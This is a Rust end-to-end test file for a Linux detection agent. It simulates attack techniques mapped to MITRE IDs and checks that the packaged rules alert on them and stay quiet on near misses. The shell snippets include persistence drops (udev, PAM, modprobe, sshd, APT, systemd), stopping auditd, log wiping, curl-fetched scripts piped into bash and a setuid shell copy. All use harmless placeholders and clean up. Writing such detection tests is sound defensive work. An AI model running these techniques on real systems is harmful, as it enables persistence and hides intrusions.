//! Privileged end-to-end tests: techniques from public attack simulations
//! (Atomic Red Team's Linux tests and the like, re-implemented here) run
//! against the default configuration and the packaged sample rules. Each
//! must raise its detection at medium or above; each near miss must stay
//! at low or below. Every case runs in its own `sh -c`, and its alerts are
//! the ones whose process or ancestry holds that shell's pid, so other
//! tests' processes on the host do not count.

mod common;

use std::fs;

use common::{Agent, get, privileged, unique};
use serde_json::Value;

/// A case: what it is, the shell script, the rule that must fire at
/// medium or above (`None`: a near miss, nothing above low may fire).
struct Case {
    what: &'static str,
    script: String,
    rule: Option<&'static str>,
}

/// `mkdir -p` that removes what it made at the end of the script: the
/// cases write into system directories a test host may not have.
const PRELUDE: &str =
    "made=''; need() { [ -d \"$1\" ] || { mkdir -p \"$1\" && made=\"$1 $made\"; }; }\n";
const CLEANUP: &str = "\nfor d in $made; do rmdir \"$d\" 2>/dev/null; done; true\n";

fn cases(u: &str, port: u16) -> Vec<Case> {
    let case = |what, body: String, rule| Case {
        what,
        script: format!("{PRELUDE}{body}{CLEANUP}"),
        rule,
    };
    vec![
        case(
            "udev rule (T1546.017)",
            format!(
                "need /etc/udev/rules.d; f=/etc/udev/rules.d/99-{u}.rules\n\
                 echo 'ACTION==\"add\", RUN+=\"/tmp/{u}\"' > $f; rm $f"
            ),
            Some("rg-persist-udev-rules"),
        ),
        case(
            "PAM module dropped (T1556.003)",
            format!(
                "need /usr/lib/x86_64-linux-gnu/security\n\
                 f=/usr/lib/x86_64-linux-gnu/security/pam_{u}.so; cp /bin/true $f; rm $f"
            ),
            Some("rg-persist-pam"),
        ),
        case(
            "modprobe install line (T1547.006)",
            format!(
                "need /etc/modprobe.d; f=/etc/modprobe.d/{u}.conf\n\
                 echo 'install {u} /bin/sh -c /tmp/{u}' > $f; rm $f"
            ),
            Some("rg-persist-kernel-modules"),
        ),
        case(
            "sshd drop-in (T1098.004)",
            format!(
                "need /etc/ssh/sshd_config.d; f=/etc/ssh/sshd_config.d/{u}.conf\n\
                 echo 'PermitRootLogin yes' > $f; rm $f"
            ),
            Some("rg-persist-ssh-config"),
        ),
        case(
            "XDG autostart entry (T1547.013)",
            format!(
                "need /etc/xdg/autostart; f=/etc/xdg/autostart/{u}.desktop\n\
                 printf '[Desktop Entry]\\nExec=/tmp/{u}\\n' > $f; rm $f"
            ),
            Some("rg-persist-xdg-autostart"),
        ),
        case(
            "MOTD script (T1037)",
            format!(
                "need /etc/update-motd.d; f=/etc/update-motd.d/99-{u}\n\
                 printf '#!/bin/sh\\n' > $f; rm $f"
            ),
            Some("rg-persist-motd"),
        ),
        case(
            "APT hook (T1546.016)",
            format!(
                "need /etc/apt/apt.conf.d; f=/etc/apt/apt.conf.d/99{u}\n\
                 echo 'APT::Update::Pre-Invoke {{\"/tmp/{u}\";}};' > $f; rm $f"
            ),
            Some("rg-persist-package-hook"),
        ),
        case(
            "systemd generator (T1543.002)",
            format!(
                "need /etc/systemd/system-generators; f=/etc/systemd/system-generators/{u}\n\
                 printf '#!/bin/sh\\n' > $f; rm $f"
            ),
            Some("rg-persist-systemd-unit"),
        ),
        case(
            "logger told to drop everything (T1562.006)",
            format!(
                "need /etc/rsyslog.d; f=/etc/rsyslog.d/00-{u}.conf\n\
                 echo '*.* stop' > $f; rm $f"
            ),
            Some("rg-log-config-changed"),
        ),
        case(
            "script decoded from base64 and run (T1140, T1059.004)",
            format!("f=/tmp/{u}.sh; echo ZWNobyBoaQo= | base64 -d > $f; sh $f; rm $f"),
            Some("rg-drop-exec"),
        ),
        case(
            "audit daemon stopped (T1562.012)",
            "systemctl stop auditd 2>/dev/null; true".into(),
            Some("dd4cf831-ec51-427f-b473-7dc81525dac1"),
        ),
        case(
            "download run through a process substitution (T1059.004, T1105)",
            format!("bash -c 'bash <(curl -s http://127.0.0.1:{port}/x.sh)'"),
            Some("rg-drop-exec"),
        ),
        case(
            "hex-decoded script piped into a shell (T1140)",
            "echo 6964 | xxd -r -p | sh >/dev/null".into(),
            Some("rg-drop-exec"),
        ),
        case(
            "script printed by python piped into a shell (T1059.006)",
            "/usr/bin/python3 -c \"print('id')\" | sh >/dev/null".into(),
            Some("rg-drop-exec"),
        ),
        case(
            "log file deleted (T1070.002)",
            format!("rm /var/log/{u}-old.log"),
            Some("rg-log-wipe"),
        ),
        case(
            "mailbox overwritten (T1070.002)",
            format!("echo 0 > /var/spool/mail/{u}"),
            Some("rg-log-wipe"),
        ),
        case(
            "setuid copy of a shell outside every watched prefix (T1548.001)",
            format!("d=/var/lib/{u}-opt; mkdir -p $d; cp /bin/sh $d/x; chmod 4755 $d/x; rm -rf $d"),
            Some("rg-perm-setuid"),
        ),
        // Near misses.
        case(
            "setgid shared directory outside the watched prefixes",
            format!("d=/var/lib/{u}-shared; mkdir $d; chmod 2775 $d; rmdir $d"),
            None,
        ),
        case(
            "own script written and run in one session (issue 19: low)",
            format!("f=/tmp/{u}-own.sh; echo 'echo hi' > $f; sh $f; rm $f"),
            None,
        ),
        case(
            "a script unpacked from an archive in /tmp and run (./configure)",
            format!(
                "s=/var/lib/{u}-src; mkdir -p $s; printf '#!/bin/sh\\necho configured\\n' > \
                 $s/configure; chmod +x $s/configure; tar -C /var/lib -cf $s.tar {u}-src; \
                 tar -C /tmp -xf $s.tar; /tmp/{u}-src/configure; rm -rf $s $s.tar /tmp/{u}-src"
            ),
            None,
        ),
        case(
            "a service's status asked",
            "systemctl status auditd >/dev/null 2>&1; true".into(),
            None,
        ),
        case(
            "SSH client configuration written",
            format!(
                "need /etc/ssh/ssh_config.d; f=/etc/ssh/ssh_config.d/{u}.conf\n\
                 echo 'Compression yes' > $f; rm $f"
            ),
            None,
        ),
        case(
            "logger configuration read",
            "cat /etc/rsyslog.conf >/dev/null 2>&1; true".into(),
            None,
        ),
    ]
}

/// (rule id, severity) of the alerts raised under `pid`: by it or by a
/// process whose ancestry holds it.
fn alerts_under(records: &[Value], pid: u32) -> Vec<(String, String)> {
    let pid = u64::from(pid);
    records
        .iter()
        .filter(|r| r["record_type"] == "alert")
        .filter(|r| {
            get(r, "process.pid").as_u64() == Some(pid)
                || get(r, "rand_guard.ancestry")
                    .as_array()
                    .is_some_and(|a| a.iter().any(|p| p["pid"].as_u64() == Some(pid)))
        })
        .map(|r| {
            (
                get(r, "rule.id").as_str().unwrap_or("").to_string(),
                get(r, "rand_guard.alert.severity")
                    .as_str()
                    .unwrap_or("")
                    .to_string(),
            )
        })
        .collect()
}

#[test]
fn simulated_techniques_alert_and_near_misses_stay_quiet() {
    if !privileged("simulated_techniques_alert_and_near_misses_stay_quiet") {
        return;
    }
    // The packaged rules, in a directory only root can write (the agent
    // refuses others).
    let rules = tempfile::tempdir().unwrap();
    for f in ["sample-rules.toml", "sample-sigma.yml"] {
        let src = concat!(env!("CARGO_MANIFEST_DIR"), "/rules/").to_string() + f;
        fs::copy(&src, rules.path().join(f)).unwrap();
    }
    let u = unique("corpus");
    // What the deletion and the overwrite destroy, made before the agent
    // starts (not by a case's shell).
    let old_log = format!("/var/log/{u}-old.log");
    let mailbox = format!("/var/mail/{u}");
    fs::write(&old_log, "old\n").unwrap();
    fs::write(&mailbox, "From x\n").unwrap();
    let script = b"echo hi\n";
    let mut http = format!(
        "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n",
        script.len()
    )
    .into_bytes();
    http.extend_from_slice(script);
    let (port, serve) = common::scenario::serve_once(http);
    let agent = Agent::start(&format!("[rules]\ndir = \"{}\"\n", rules.path().display()));
    let mut ran = Vec::new();
    for c in cases(&u, port) {
        let mut child = std::process::Command::new("/bin/sh")
            .args(["-c", &c.script])
            .spawn()
            .unwrap();
        let pid = child.id();
        assert!(child.wait().unwrap().success(), "{}: {}", c.what, c.script);
        ran.push((c, pid));
    }
    // Every case's shell has exited once its exit record is in.
    let last = ran.last().unwrap().1;
    agent.wait_for("the last case's exit", |r| {
        get(r, "event.action") == "exit" && get(r, "process.pid").as_u64() == Some(u64::from(last))
    });
    // Scenario alerts may wait for a hash ([hash] alert_wait_ms).
    std::thread::sleep(std::time::Duration::from_millis(500));
    let (status, records, stderr) = agent.stop();
    serve.join().unwrap();
    let _ = fs::remove_file(&mailbox);
    let _ = fs::remove_file(&old_log);
    assert!(status.success(), "{stderr}");
    let loud = |s: &str| matches!(s, "medium" | "high" | "critical");
    let mut failures = Vec::new();
    for (c, pid) in &ran {
        let got = alerts_under(&records, *pid);
        match c.rule {
            Some(rule) => {
                if !got.iter().any(|(id, sev)| id == rule && loud(sev)) {
                    failures.push(format!("{}: no {rule} at medium or above: {got:?}", c.what));
                }
                // Nothing else above low that the case does not explain.
                if let Some(other) = got.iter().find(|(id, sev)| id != rule && loud(sev)) {
                    failures.push(format!("{}: also {other:?}", c.what));
                }
            }
            None => {
                if let Some(a) = got.iter().find(|(_, sev)| loud(sev)) {
                    failures.push(format!("{}: near miss raised {a:?}", c.what));
                }
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}
